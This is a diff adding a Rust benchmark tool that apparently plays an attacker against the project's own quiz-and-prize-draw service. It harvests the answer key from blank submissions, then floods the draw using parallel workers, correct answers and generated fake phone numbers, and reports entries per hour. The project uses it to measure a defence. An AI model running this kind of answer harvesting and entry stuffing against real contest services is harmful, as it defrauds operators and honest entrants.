@@ -1,0 +1,203 @@
+//! Bench-only: plays the pool-stuffing attacker of issue 11 against a running
+//! quizbooth, from one address (see `bench/stuffing.sh`).
+//!
+//! 1. Learns the answer key: starts sessions and submits them blank; each
+//!    result shows the right answers of the questions it served.
+//! 2. Enters the draw as fast as the service lets it: `--workers` loops each
+//!    start a session, wait the bank's published `min_answer_secs` (if any),
+//!    submit the right answers and enter with a fresh valid phone number.
+//!
+//! Prints what it learned and, every 10 s, the entries accepted so far; at
+//! the end the burst (entries in the first 10 s), the steady rate over the
+//! second half of the run, and the entries an hour that one address gets:
+//! burst + steady rate × 3600.
+//!
+//! ```text
+//! stuff --url http://127.0.0.1:8080 --seconds 120 [--workers 32]
+//! ```
+
+use anyhow::{bail, Context};
+use serde_json::{json, Value};
+use std::collections::HashMap;
+use std::sync::atomic::{AtomicU64, Ordering};
+use std::sync::Arc;
+use std::time::{Duration, Instant};
+
+#[tokio::main]
+async fn main() -> anyhow::Result<()> {
+    let args: Vec<String> = std::env::args().skip(1).collect();
+    let flag = |name: &str| {
+        args.iter()
+            .position(|a| a == name)
+            .and_then(|i| args.get(i + 1).cloned())
+    };
+    let url = flag("--url").context("usage: stuff --url URL --seconds N [--workers K]")?;
+    let seconds: u64 = flag("--seconds").map_or(Ok(120), |s| s.parse())?;
+    let workers: usize = flag("--workers").map_or(Ok(32), |s| s.parse())?;
+    let client = reqwest::Client::builder()
+        .timeout(Duration::from_secs(30))
+        .build()?;
+
+    let set: Value = client
+        .get(format!("{url}/api/set"))
+        .send()
+        .await?
+        .json()
+        .await?;
+    let wait = Duration::from_secs(set["min_answer_secs"].as_u64().unwrap_or(0));
+    let key = learn_key(&client, &url).await?;
+    println!(
+        "learned the answers of {} questions; the bank asks {} s before a submission",
+        key.len(),
+        wait.as_secs()
+    );
+
+    let entered = Arc::new(AtomicU64::new(0));
+    let refused = Arc::new(AtomicU64::new(0));
+    let phones = Arc::new(AtomicU64::new(0));
+    let started = Instant::now();
+    let end = started + Duration::from_secs(seconds);
+    let key = Arc::new(key);
+    let mut tasks = Vec::new();
+    for _ in 0..workers {
+        let (client, url, key) = (client.clone(), url.clone(), key.clone());
+        let (entered, refused, phones) = (entered.clone(), refused.clone(), phones.clone());
+        tasks.push(tokio::spawn(async move {
+            while Instant::now() < end {
+                let phone = format!("139{:08}", phones.fetch_add(1, Ordering::Relaxed));
+                match enter_once(&client, &url, &key, wait, &phone).await {
+                    Ok(true) => {
+                        entered.fetch_add(1, Ordering::Relaxed);
+                    }
+                    // Refused (a limit): back off a little, as a patient script would.
+                    _ => {
+                        refused.fetch_add(1, Ordering::Relaxed);
+                        tokio::time::sleep(Duration::from_millis(500)).await;
+                    }
+                }
+            }
+        }));
+    }
+    let mut burst = 0;
+    let mut at_half = 0;
+    let mut tick = tokio::time::interval(Duration::from_secs(10));
+    tick.tick().await;
+    for t in (10..=seconds).step_by(10) {
+        tick.tick().await;
+        let n = entered.load(Ordering::Relaxed);
+        if t == 10 {
+            burst = n;
+        }
+        if t == seconds / 2 / 10 * 10 {
+            at_half = n;
+        }
+        println!(
+            "{t:>5} s: {n} entries accepted, {} requests refused",
+            refused.load(Ordering::Relaxed)
+        );
+    }
+    for t in tasks {
+        t.await?;
+    }
+    let total = entered.load(Ordering::Relaxed);
+    let half = (seconds - seconds / 2 / 10 * 10) as f64;
+    let steady = (total - at_half) as f64 / half;
+    println!(
+        "one address: {total} entries in {seconds} s; burst {burst} in the first 10 s; \
+         steady {steady:.2} a second; about {} entries an hour",
+        burst + (steady * 3600.0).round() as u64
+    );
+    Ok(())
+}
+
+/// Question id → the right keys, from blank submissions' results.
+async fn learn_key(
+    client: &reqwest::Client,
+    url: &str,
+) -> anyhow::Result<HashMap<String, Vec<String>>> {
+    let mut key = HashMap::new();
+    let mut nothing_new = 0;
+    let mut sessions = 0;
+    while nothing_new < 10 {
+        sessions += 1;
+        if sessions > 500 {
+            bail!("could not learn the key in 500 sessions");
+        }
+        let s = start(client, url).await?;
+        let s = s["session"].as_str().context("a session token")?;
+        let r: Value = client
+            .post(format!("{url}/api/sessions/{s}/answers"))
+            .json(&json!({"answers": {}}))
+            .send()
+            .await?
+            .json()
+            .await?;
+        let before = key.len();
+        for item in r["results"].as_array().into_iter().flatten() {
+            let answer: Vec<String> = item["answer"]
+                .as_array()
+                .into_iter()
+                .flatten()
+                .filter_map(|k| k.as_str().map(str::to_owned))
+                .collect();
+            if let Some(id) = item["id"].as_str() {
+                key.insert(id.to_owned(), answer);
+            }
+        }
+        nothing_new = if key.len() == before {
+            nothing_new + 1
+        } else {
+            0
+        };
+    }
+    Ok(key)
+}
+
+/// A new session's JSON.
+async fn start(client: &reqwest::Client, url: &str) -> anyhow::Result<Value> {
+    let r = client
+        .post(format!("{url}/api/sessions"))
+        .json(&json!({}))
+        .send()
+        .await?;
+    if !r.status().is_success() {
+        bail!("session start: {}", r.status());
+    }
+    Ok(r.json().await?)
+}
+
+/// One entry: start, wait, submit the right answers, enter. `Ok(true)` on a 201.
+async fn enter_once(
+    client: &reqwest::Client,
+    url: &str,
+    key: &HashMap<String, Vec<String>>,
+    wait: Duration,
+    phone: &str,
+) -> anyhow::Result<bool> {
+    let Ok(s) = start(client, url).await else {
+        return Ok(false);
+    };
+    let id = s["session"].as_str().context("a session token")?.to_owned();
+    let answers: HashMap<&str, &Vec<String>> = s["questions"]
+        .as_array()
+        .into_iter()
+        .flatten()
+        .filter_map(|q| q["id"].as_str())
+        .filter_map(|q| key.get(q).map(|a| (q, a)))
+        .collect();
+    tokio::time::sleep(wait + Duration::from_millis(200)).await;
+    let r = client
+        .post(format!("{url}/api/sessions/{id}/answers"))
+        .json(&json!({ "answers": answers }))
+        .send()
+        .await?;
+    if !r.status().is_success() {
+        return Ok(false);
+    }
+    let r = client
+        .post(format!("{url}/api/entries"))
+        .json(&json!({"session": id, "name": "张三", "phone": phone, "consent": true}))
+        .send()
+        .await?;
+    Ok(r.status().as_u16() == 201)
+}
